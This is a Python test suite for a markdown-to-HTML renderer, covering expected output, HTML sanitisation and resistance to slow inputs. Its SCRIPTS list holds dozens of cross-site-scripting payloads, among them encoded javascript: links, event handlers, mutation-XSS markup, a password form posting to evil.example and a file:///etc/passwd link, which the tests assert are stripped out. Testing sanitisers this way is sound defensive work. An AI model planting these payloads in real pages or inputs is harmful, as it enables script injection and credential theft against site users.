"""Markdown as HTML: what is meant is kept, what could do harm is not, and no text takes unduly long."""

import time
from html.parser import HTMLParser
from itertools import product
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from askwell.core.markdown import to_html, to_text

MOST = 20_000
ELEMENTS = {"p", "br", "hr", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre"}
ELEMENTS |= {"em", "strong", "s", "a", "code"}
ATTRIBUTES = {"href", "title", "rel", "start"}
SCHEMES = {"", "http", "https", "mailto", "tel"}


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("*a* **b** ~~c~~ `d`", "<p><em>a</em> <strong>b</strong> <s>c</s> <code>d</code></p>\n"),
        ("one\ntwo\n\nthree", "<p>one<br>\ntwo</p>\n<p>three</p>\n"),
        ("# One\n\nTwo\n---", "<h3>One</h3>\n<h4>Two</h4>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>\n'),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>\n"),
        ("```py\na < b\n```", "<pre><code>a &lt; b\n</code></pre>\n"),
        ("[a](https://b.example 'c')", '<p><a href="https://b.example" title="c" rel="noopener nofollow">a</a></p>\n'),
        ("<zoe@b.example>", '<p><a href="mailto:zoe@b.example" rel="noopener nofollow">zoe@b.example</a></p>\n'),
        ("https://b.example", "<p>https://b.example</p>\n"),
        ("![a](https://b.example/c.png)", '<p>!<a href="https://b.example/c.png" rel="noopener nofollow">a</a></p>\n'),
        ("<b>a</b> & b", "<p>&lt;b&gt;a&lt;/b&gt; &amp; b</p>\n"),
    ],
)
def test_reads_as_it_is_meant(source: str, html: str) -> None:
    assert to_html(source) == html


def test_as_text_it_says_what_a_reader_reads() -> None:
    assert to_text("# A *title*\n\n[link](https://b.example) & <b> &amp; `x`") == "A title\nlink & <b> & x"


class Harm(HTMLParser):
    """Everything in a document that this product never puts there."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [tag] if tag not in ELEMENTS else []
        self.found += [name for name, _ in attrs if name not in ATTRIBUTES]
        self.found += [value or "" for name, value in attrs if name == "href" and _scheme(value or "") not in SCHEMES]
        if tag == "a" and ("rel", "noopener nofollow") not in attrs:
            self.found.append("a link without rel")

    def handle_comment(self, data: str) -> None:
        self.found.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def _scheme(url: str) -> str:
    return urlsplit("".join(c for c in url if c.isprintable() and not c.isspace())).scheme.lower()


SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>a</a>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<form action=https://evil.example><input name=password>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<style>*{background:url(https://evil.example)}</style>",
    "</textarea><script>alert(1)</script>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](java&#10;script:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[a](file:///etc/passwd)",
    "[a](blob:https://a.example/1)",
    "[a](x 'title\" onmouseover=alert(1) ')",
    '[a](https://b.example"onmouseover="alert(1))',
    "![a](javascript:alert(1))",
    '![a](x"onerror="alert(1))',
    "[a]\n\n[a]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<https://b.example/"onclick=alert(1)>',
    '```"><script>alert(1)</script>\na\n```',
    "`<script>alert(1)</script>`",
    "a <b onclick=alert(1)>b</b>",
    "\\<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[<img src=x onerror=alert(1)>](https://b.example)",
    "[a](https://b.example)<script>alert(1)</script>",
    "<a\0 href='javascript:alert(1)'>a</a>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
)
AROUND = ("{}", "> {}", "- {}", "# {}", "**{}**", "[{}](https://b.example)", "a\n{}\nb", "`a` {}")


@pytest.mark.parametrize("script", SCRIPTS)
def test_no_script_survives(script: str) -> None:
    for around in AROUND:
        assert Harm(to_html(around.format(script))).found == []


@given(st.lists(st.sampled_from(SCRIPTS) | st.text(max_size=20), max_size=5).map("".join))
def test_no_mixture_of_scripts_survives(source: str) -> None:
    assert Harm(to_html(source)).found == []


PIECES = (
    "[",
    "]",
    "(",
    "![",
    "*",
    "_",
    "**",
    "~~",
    "`",
    "> ",
    "- ",
    "1. ",
    "\n",
    "a",
    "\\",
    "<",
    "<a@b.c>",
    "&",
    "#",
    "|",
)
PAIRS = ["".join(pair) for pair in product(PIECES, PIECES)][::23]
SLOW = [*PIECES, *PAIRS, "[a](", "![[](", "*a_ ", "a**b_", "!\n_", "[a]: b\n", "<!--", "[x](y 'z"]


def longest(piece: str) -> str:
    return (piece * MOST)[:MOST]


def seconds(source: str) -> float:
    """How long this thread works at it: what else the machine does is not counted."""
    begun = time.thread_time()
    to_html(source)
    return time.thread_time() - begun


def is_quadratic(source: str) -> bool:
    """Whether twice the text takes four times as long, and not twice: measured again where chance may have played."""
    return all(seconds(source) > 3 * seconds(source[: len(source) // 2]) for _ in range(4))


def test_no_text_takes_longer_than_its_length_tells_or_grows_twentyfold() -> None:
    nested = [prefix * depth + "a\n" + "b\n" * MOST for prefix in ("> ", "- ", "1. ", "- > ") for depth in (12, 100)]
    growing = ["[a]: " + "b" * 9_000 + "\n\n" + "[a]" * MOST, "|a" * 20 + "\n" + "|-" * 20 + "\n" + "|a\n" * MOST]
    for source in (*map(longest, SLOW), *(text[:MOST] for text in (*nested, *growing))):
        assert not is_quadratic(source), source[:40]
        assert len(to_html(source)) < 20 * MOST, source[:40]
